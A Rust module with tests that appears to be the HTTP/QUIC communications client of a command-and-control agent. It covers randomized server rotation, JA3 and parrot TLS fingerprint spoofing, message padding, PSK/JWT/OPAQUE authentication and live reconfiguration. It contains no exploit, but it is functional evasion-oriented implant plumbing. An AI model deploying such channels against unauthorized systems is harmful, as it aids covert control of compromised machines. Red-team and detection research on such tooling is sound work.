//! The client session: send/receive with URL rotation, token handling,
//! transport re-creation, and dual-key message decoding.
//!
//! One agent loop drives [`Client::send`] and [`Client::authenticate`]
//! sequentially, but external subsystems may call [`Client::set`] at any
//! time, so mutable session state lives behind a mutex. The lock is held
//! only around mutation and transport swaps, never across network I/O: a
//! reconfiguration that races an in-flight request affects the next one.

use std::sync::{Arc, Mutex, MutexGuard, PoisonError};

use rand::Rng;
use sha2::{Digest, Sha256};
use tracing::{debug, info, warn};
use uuid::Uuid;

use crate::auth::Authenticator;
use crate::config::{self, Config};
use crate::error::{Error, Result};
use crate::message::Message;
use crate::padding;
use crate::registry;
use crate::token;
use crate::transform::{Pipeline, Value};
use crate::transport::{
    Protocol, Transport, WireRequest, QUIC_CONNECTION_CLOSE, QUIC_HANDSHAKE_TIMEOUT,
    QUIC_IDLE_TIMEOUT,
};

/// Mutable session state, guarded by the client's mutex.
struct SessionState {
    urls: Vec<String>,
    current_url: usize,
    ja3: Option<String>,
    parrot: Option<String>,
    jwt: String,
    secret: Vec<u8>,
    padding_max: usize,
    authenticated: bool,
    transport: Arc<Transport>,
}

/// The messaging client. Constructed once from a static [`Config`] and
/// registered process-wide; lives until the process exits.
pub struct Client {
    agent: Uuid,
    protocol: Protocol,
    psk: String,
    user_agent: String,
    host: Option<String>,
    proxy: Option<String>,
    headers: Vec<(String, String)>,
    pipeline: Pipeline,
    auth_name: &'static str,
    auth: Mutex<Authenticator>,
    state: Mutex<SessionState>,
}

impl Client {
    /// Build a client from configuration and register it as the active
    /// client for this process.
    pub fn new(cfg: Config) -> Result<Arc<Self>> {
        cfg.validate()?;

        let protocol: Protocol = cfg.protocol.parse()?;
        let auth = Authenticator::new(&cfg.auth_package, cfg.agent_id)?;
        let auth_name = auth.name();
        let pipeline = Pipeline::parse(&cfg.transformers)?;
        let headers = config::parse_headers(&cfg.headers)?;
        let padding_max = config::parse_padding(&cfg.padding)?;

        let ja3 = some_if_not_empty(&cfg.ja3);
        let parrot = some_if_not_empty(&cfg.parrot);
        let proxy = some_if_not_empty(&cfg.proxy);
        let transport = Transport::build(
            protocol,
            proxy.as_deref(),
            ja3.as_deref(),
            parrot.as_deref(),
        )?;

        let secret = Sha256::digest(cfg.psk.as_bytes()).to_vec();

        info!(
            agent = %cfg.agent_id,
            %protocol,
            authenticator = auth_name,
            transforms = %cfg.transformers,
            urls = ?cfg.url,
            user_agent = %cfg.user_agent,
            host = %cfg.host,
            proxy = %cfg.proxy,
            padding_max,
            ja3 = %cfg.ja3,
            parrot = %cfg.parrot,
            "client constructed"
        );

        let client = Arc::new(Self {
            agent: cfg.agent_id,
            protocol,
            psk: cfg.psk,
            user_agent: cfg.user_agent,
            host: some_if_not_empty(&cfg.host),
            proxy,
            headers,
            pipeline,
            auth_name,
            auth: Mutex::new(auth),
            state: Mutex::new(SessionState {
                urls: cfg.url,
                current_url: 0,
                ja3,
                parrot,
                jwt: String::new(),
                secret,
                padding_max,
                authenticated: false,
                transport,
            }),
        });
        registry::register(client.clone());
        Ok(client)
    }

    /// The agent identifier this client is bound to.
    pub fn agent(&self) -> Uuid {
        self.agent
    }

    /// Whether the session is currently authenticated.
    pub fn authenticated(&self) -> bool {
        self.lock_state().authenticated
    }

    /// The current session token.
    pub fn session_token(&self) -> String {
        self.lock_state().jwt.clone()
    }

    /// Identity of the current round-tripper; changes when the
    /// transport is rebuilt.
    pub fn transport_id(&self) -> u64 {
        self.lock_state().transport.id()
    }

    /// This transport pulls; it cannot wait for server-pushed data.
    pub fn listen(&self) -> Result<Vec<Message>> {
        Err(Error::Unsupported(
            "the HTTP client does not support listening",
        ))
    }

    /// Poll-based rather than server-push.
    pub fn synchronous(&self) -> bool {
        false
    }

    /// Entry point at startup: run the full authentication handshake
    /// from an empty seed message.
    pub async fn initial(&self) -> Result<()> {
        self.authenticate(Message::default()).await
    }

    /// Drive the authenticator to completion, sending each handshake leg
    /// and feeding the response back in. Resets the session to the
    /// bootstrap secret first; the server can also demand this mid-flight
    /// by sending a re-authentication message as `seed`.
    pub async fn authenticate(&self, seed: Message) -> Result<()> {
        debug!(authenticator = self.auth_name, "starting authentication");
        {
            let mut state = self.lock_state();
            state.secret = self.bootstrap_secret();
            state.authenticated = false;
        }
        let jwt = token::mint(self.agent, &self.bootstrap_secret())?;
        self.lock_state().jwt = jwt;

        let mut current = seed;
        loop {
            let (outbound, done) = self.lock_auth().step(&current)?;

            // An empty message means the authenticator has nothing to
            // say; exit without touching session state
            if outbound.is_empty() {
                return Ok(());
            }

            if done {
                // The final leg must already travel under the new key
                let key = self.lock_auth().secret()?;
                {
                    let mut state = self.lock_state();
                    state.authenticated = true;
                    if !key.is_empty() {
                        state.secret = key;
                    }
                }
                registry::notify_refresh();
                info!("agent authenticated");
            }

            let replies = self.send(outbound).await?;
            // Keep the previous inbound when the reply was empty (e.g.
            // a 401 remint); the next step retries from the same spot
            if let Some(reply) = replies.into_iter().next() {
                current = reply;
            }

            if done {
                return Ok(());
            }
        }
    }

    /// Send one message and return the decoded replies (one on success,
    /// none after a 401 remint).
    pub async fn send(&self, mut msg: Message) -> Result<Vec<Message>> {
        let (url, jwt, secret, transport, padding_max) = {
            let state = self.lock_state();
            (
                state.urls[state.current_url].clone(),
                state.jwt.clone(),
                state.secret.clone(),
                state.transport.clone(),
                state.padding_max,
            )
        };
        debug!(kind = ?msg.kind, %url, "sending message");

        if padding_max > 0 {
            msg.padding = padding::random_padding(padding_max);
        }

        let body = self.pipeline.construct(msg, &secret)?;
        let outcome = transport
            .round_trip(WireRequest {
                url: &url,
                host: self.host.as_deref(),
                user_agent: &self.user_agent,
                bearer: &jwt,
                headers: &self.headers,
                body,
            })
            .await;

        // Rotate before looking at the outcome so a dead endpoint
        // cannot pin the pointer to itself
        self.rotate();

        let response = match outcome {
            Ok(response) => response,
            Err(err) => {
                if self.protocol == Protocol::Http3 {
                    self.maybe_rebuild_quic(&err);
                }
                return Err(err);
            }
        };

        match response.status {
            200 => {}
            401 => {
                warn!("server returned 401, reminting bootstrap token");
                let jwt = token::mint(self.agent, &self.bootstrap_secret())?;
                self.lock_state().jwt = jwt;
                return Ok(Vec::new());
            }
            status => return Err(Error::Server(status)),
        }

        let content_type = response.content_type.ok_or_else(|| {
            Error::bad_response("the response did not contain a Content-Type header")
        })?;
        let octet_stream = content_type
            .split(',')
            .any(|part| part.trim().eq_ignore_ascii_case("application/octet-stream"));
        if !octet_stream {
            return Err(Error::bad_response(format!(
                "the response Content-Type was not application/octet-stream: {content_type}"
            )));
        }
        if response.length == Some(0) {
            return Err(Error::bad_response("the response did not contain any data"));
        }

        let reply = self.deconstruct(&response.body)?;

        // Adopt a refreshed session token when the server sent one
        if !reply.token.is_empty() {
            self.lock_state().jwt = reply.token.clone();
        }

        Ok(vec![reply])
    }

    /// Live reconfiguration. Holds the mutex for the whole mutation,
    /// including any transport rebuild.
    pub fn set(&self, key: &str, value: &str) -> Result<()> {
        debug!(key, value, "updating client setting");
        let mut state = self.lock_state();
        match key.to_ascii_lowercase().as_str() {
            "addr" => {
                let urls: Vec<String> = value
                    .replace(' ', "")
                    .split(',')
                    .map(str::to_string)
                    .collect();
                for u in &urls {
                    url::Url::parse(u)
                        .map_err(|e| Error::config(format!("invalid URL {u}: {e}")))?;
                }
                state.urls = urls;
                if state.current_url >= state.urls.len() {
                    state.current_url = 0;
                }
                state.transport = Transport::build(
                    self.protocol,
                    self.proxy.as_deref(),
                    state.ja3.as_deref(),
                    state.parrot.as_deref(),
                )?;
            }
            "ja3" => {
                let ja3 = value.trim_matches(|c| c == '"' || c == '\'').to_string();
                let ja3 = if ja3.is_empty() { None } else { Some(ja3) };
                match &ja3 {
                    Some(ja3) => info!(%ja3, "switching to JA3 fingerprint transport"),
                    None => info!(protocol = %self.protocol, "reverting to protocol default transport"),
                }
                state.transport = Transport::build(
                    self.protocol,
                    self.proxy.as_deref(),
                    ja3.as_deref(),
                    state.parrot.as_deref(),
                )?;
                state.ja3 = ja3;
            }
            "parrot" => {
                let parrot = value.trim_matches(|c| c == '"' || c == '\'').to_string();
                let parrot = if parrot.is_empty() { None } else { Some(parrot) };
                match &parrot {
                    Some(parrot) => info!(%parrot, "switching to parrot fingerprint transport"),
                    None => info!(protocol = %self.protocol, "reverting to protocol default transport"),
                }
                state.transport = Transport::build(
                    self.protocol,
                    self.proxy.as_deref(),
                    state.ja3.as_deref(),
                    parrot.as_deref(),
                )?;
                state.parrot = parrot;
            }
            "jwt" => {
                state.jwt = value.to_string();
            }
            "paddingmax" => {
                state.padding_max = value
                    .trim()
                    .parse()
                    .map_err(|e| Error::config(format!("invalid padding maximum {value}: {e}")))?;
            }
            "secret" => {
                state.secret = value.as_bytes().to_vec();
            }
            other => return Err(Error::UnknownSetting(other.to_string())),
        }
        Ok(())
    }

    /// Read one client field.
    pub fn get(&self, key: &str) -> Result<String> {
        let state = self.lock_state();
        match key.to_ascii_lowercase().as_str() {
            "ja3" => Ok(state.ja3.clone().unwrap_or_default()),
            "paddingmax" => Ok(state.padding_max.to_string()),
            "parrot" => Ok(state.parrot.clone().unwrap_or_default()),
            "protocol" => Ok(self.protocol.to_string()),
            other => Err(Error::UnknownSetting(other.to_string())),
        }
    }

    /// SHA-256 of the PSK: the bootstrap secret and token key.
    fn bootstrap_secret(&self) -> Vec<u8> {
        Sha256::digest(self.psk.as_bytes()).to_vec()
    }

    /// Pick the next URL uniformly at random (self-selection allowed).
    /// Suppressed while an OPAQUE handshake is mid-flight: the PAKE
    /// state lives on one server, so switching would break it.
    fn rotate(&self) {
        let mut state = self.lock_state();
        if self.auth_name == "OPAQUE" && state.secret.len() != 64 {
            return;
        }
        if state.urls.len() > 1 {
            state.current_url = rand::thread_rng().gen_range(0..state.urls.len());
            debug!(url = %state.urls[state.current_url], "rotated endpoint");
        }
    }

    /// Rebuild the QUIC round-tripper in place when the error matches a
    /// connection-level condition that a fresh socket can recover from.
    /// The failed send still surfaces; the next one uses the new
    /// transport, with no proxy or fingerprint applied.
    fn maybe_rebuild_quic(&self, err: &Error) {
        let text = err.to_string();
        let triggered = [
            QUIC_CONNECTION_CLOSE,
            QUIC_HANDSHAKE_TIMEOUT,
            QUIC_IDLE_TIMEOUT,
        ]
        .iter()
        .any(|trigger| text.contains(trigger));
        if !triggered {
            return;
        }

        debug!(error = %text, "rebuilding HTTP/3 transport");
        match Transport::build(self.protocol, None, None, None) {
            Ok(transport) => self.lock_state().transport = transport,
            Err(e) => warn!(error = %e, "failed to rebuild HTTP/3 transport"),
        }
    }

    /// Decode a response through the pipeline, retrying each failed
    /// stage under the PSK-derived key. A PSK success means the server
    /// has evicted the session: the client drops back to unauthenticated
    /// and adopts the bootstrap secret.
    fn deconstruct(&self, data: &[u8]) -> Result<Message> {
        let mut key = self.lock_state().secret.clone();
        let mut current = data.to_vec();
        for stage in self.pipeline.stages() {
            let value = match stage.deconstruct(&current, &key) {
                Ok(value) => value,
                Err(_) => {
                    warn!(
                        stage = stage.name(),
                        "deconstruct failed with session secret, retrying with PSK"
                    );
                    let psk_key = self.bootstrap_secret();
                    let value = stage.deconstruct(&current, &psk_key)?;
                    let mut state = self.lock_state();
                    state.authenticated = false;
                    state.secret = psk_key.clone();
                    key = psk_key;
                    value
                }
            };
            match value {
                Value::Bytes(bytes) => current = bytes,
                Value::Text(text) => current = text.into_bytes(),
                Value::Message(msg) => return Ok(msg),
            }
        }
        Err(Error::transform(
            "response data never produced a message",
        ))
    }

    fn lock_state(&self) -> MutexGuard<'_, SessionState> {
        self.state.lock().unwrap_or_else(PoisonError::into_inner)
    }

    fn lock_auth(&self) -> MutexGuard<'_, Authenticator> {
        self.auth.lock().unwrap_or_else(PoisonError::into_inner)
    }
}

fn some_if_not_empty(value: &str) -> Option<String> {
    let trimmed = value.trim();
    if trimmed.is_empty() {
        None
    } else {
        Some(trimmed.to_string())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::message::{MessageKind, Payload};

    fn base_config() -> Config {
        Config {
            agent_id: Uuid::new_v4(),
            protocol: "http".into(),
            url: vec!["http://127.0.0.1:8080/t".into()],
            psk: "test".into(),
            user_agent: "Mozilla/5.0".into(),
            auth_package: "none".into(),
            transformers: "jwe".into(),
            ..Config::default()
        }
    }

    fn heartbeat(agent: Uuid) -> Message {
        let mut msg = Message::new(agent, MessageKind::Idle);
        msg.payload = Payload::None;
        msg
    }

    #[tokio::test]
    async fn test_new_applies_bootstrap_secret() {
        let client = Client::new(base_config()).unwrap();
        let state = client.lock_state();
        assert_eq!(state.secret, Sha256::digest(b"test").to_vec());
        assert_eq!(state.secret.len(), 32);
        assert!(!state.authenticated);
    }

    #[tokio::test]
    async fn test_new_rejects_bad_input() {
        for (field, value) in [
            ("protocol", "gopher"),
            ("auth_package", "kerberos"),
            ("transformers", ""),
            ("transformers", "rot13"),
            ("padding", "lots"),
            ("headers", "no colon here"),
        ] {
            let mut cfg = base_config();
            match field {
                "protocol" => cfg.protocol = value.into(),
                "auth_package" => cfg.auth_package = value.into(),
                "transformers" => cfg.transformers = value.into(),
                "padding" => cfg.padding = value.into(),
                _ => cfg.headers = value.into(),
            }
            assert!(Client::new(cfg).is_err(), "{field}={value}");
        }

        let mut cfg = base_config();
        cfg.url = Vec::new();
        assert!(Client::new(cfg).is_err());
    }

    #[tokio::test]
    async fn test_listen_and_synchronous() {
        let client = Client::new(base_config()).unwrap();
        assert!(matches!(client.listen(), Err(Error::Unsupported(_))));
        assert!(!client.synchronous());
    }

    #[tokio::test]
    async fn test_authenticate_none_mints_bootstrap_token() {
        let client = Client::new(base_config()).unwrap();
        client.initial().await.unwrap();

        // No network traffic happened; the loop exited on the empty
        // message, leaving the bootstrap state in place
        assert!(!client.authenticated());
        let jwt = client.session_token();
        let claims = token::verify(&jwt, &Sha256::digest(b"test").to_vec()).unwrap();
        assert_eq!(claims.agent, client.agent());
    }

    #[tokio::test]
    async fn test_rotation_distribution_is_uniform() {
        let mut cfg = base_config();
        cfg.url = vec![
            "http://127.0.0.1:8080/a".into(),
            "http://127.0.0.1:8080/b".into(),
            "http://127.0.0.1:8080/c".into(),
        ];
        let client = Client::new(cfg).unwrap();

        let mut counts = [0usize; 3];
        for _ in 0..10_000 {
            client.rotate();
            counts[client.lock_state().current_url] += 1;
        }
        for count in counts {
            // Three-sigma band around 10000/3
            assert!((3000..=3700).contains(&count), "counts: {counts:?}");
        }
    }

    #[tokio::test]
    async fn test_rotation_suppressed_during_opaque_handshake() {
        let mut cfg = base_config();
        cfg.auth_package = "opaque".into();
        cfg.url = vec![
            "http://127.0.0.1:8080/a".into(),
            "http://127.0.0.1:8080/b".into(),
        ];
        let client = Client::new(cfg).unwrap();

        // Bootstrap secret is 32 bytes: the handshake is incomplete
        for _ in 0..100 {
            client.rotate();
            assert_eq!(client.lock_state().current_url, 0);
        }

        // With the 64-byte session key rotation resumes
        client.lock_state().secret = vec![0u8; 64];
        let mut moved = false;
        for _ in 0..200 {
            client.rotate();
            if client.lock_state().current_url != 0 {
                moved = true;
                break;
            }
        }
        assert!(moved);
    }

    #[tokio::test]
    async fn test_dual_key_fallback_reverts_session() {
        let mut cfg = base_config();
        cfg.transformers = "aes,gob-base".into();
        let client = Client::new(cfg).unwrap();

        // Pretend the session authenticated with a 64-byte key
        {
            let mut state = client.lock_state();
            state.secret = vec![0x5a; 64];
            state.authenticated = true;
        }

        // The server answers under the PSK-derived key: eviction signal
        let bootstrap = client.bootstrap_secret();
        let wire = client
            .pipeline
            .construct(heartbeat(client.agent()), &bootstrap)
            .unwrap();

        let reply = client.deconstruct(&wire).unwrap();
        assert_eq!(reply.kind, MessageKind::Idle);
        assert!(!client.authenticated());
        assert_eq!(client.lock_state().secret, bootstrap);
    }

    #[tokio::test]
    async fn test_deconstruct_under_session_secret_keeps_auth() {
        let mut cfg = base_config();
        cfg.transformers = "aes,gob-base".into();
        let client = Client::new(cfg).unwrap();
        {
            let mut state = client.lock_state();
            state.secret = vec![0x5a; 64];
            state.authenticated = true;
        }

        let wire = client
            .pipeline
            .construct(heartbeat(client.agent()), &[0x5a; 64])
            .unwrap();
        client.deconstruct(&wire).unwrap();
        assert!(client.authenticated());
        assert_eq!(client.lock_state().secret, vec![0x5a; 64]);
    }

    #[tokio::test]
    async fn test_quic_rebuild_on_trigger_text() {
        let mut cfg = base_config();
        cfg.protocol = "http3".into();
        cfg.url = vec!["https://127.0.0.1:8443/q".into()];
        let client = Client::new(cfg).unwrap();

        let before = client.transport_id();
        client.maybe_rebuild_quic(&Error::transport(format!("send failed: {QUIC_IDLE_TIMEOUT}")));
        assert_ne!(client.transport_id(), before);

        // Unrelated transport errors leave the round-tripper alone
        let current = client.transport_id();
        client.maybe_rebuild_quic(&Error::transport("connection refused"));
        assert_eq!(client.transport_id(), current);
    }

    #[tokio::test]
    async fn test_set_and_get() {
        let client = Client::new(base_config()).unwrap();

        client.set("paddingmax", "512").unwrap();
        assert_eq!(client.get("paddingmax").unwrap(), "512");
        assert!(client.set("paddingmax", "many").is_err());

        client.set("jwt", "verbatim-token").unwrap();
        assert_eq!(client.session_token(), "verbatim-token");

        client.set("secret", "sixteen-byte-key").unwrap();
        assert_eq!(client.lock_state().secret, b"sixteen-byte-key");

        assert_eq!(client.get("protocol").unwrap(), "http");
        assert_eq!(client.get("ja3").unwrap(), "");

        assert!(matches!(
            client.set("interval", "10"),
            Err(Error::UnknownSetting(_))
        ));
        assert!(matches!(
            client.get("interval"),
            Err(Error::UnknownSetting(_))
        ));
    }

    #[tokio::test]
    async fn test_set_addr_reparses_and_rebuilds() {
        let client = Client::new(base_config()).unwrap();
        let before = client.transport_id();

        client
            .set("addr", "http://10.0.0.1/a, http://10.0.0.2/b")
            .unwrap();
        {
            let state = client.lock_state();
            assert_eq!(
                state.urls,
                vec!["http://10.0.0.1/a", "http://10.0.0.2/b"]
            );
            assert!(state.current_url < state.urls.len());
        }
        assert_ne!(client.transport_id(), before);

        assert!(client.set("addr", "not a url").is_err());
    }

    #[tokio::test]
    async fn test_set_ja3_and_back() {
        let client = Client::new(base_config()).unwrap();

        client
            .set("ja3", "\"771,4865-4866,0-23,29-23-24,0\"")
            .unwrap();
        assert_eq!(client.get("ja3").unwrap(), "771,4865-4866,0-23,29-23-24,0");

        // Empty string restores the protocol default
        client.set("ja3", "").unwrap();
        assert_eq!(client.get("ja3").unwrap(), "");
    }
}
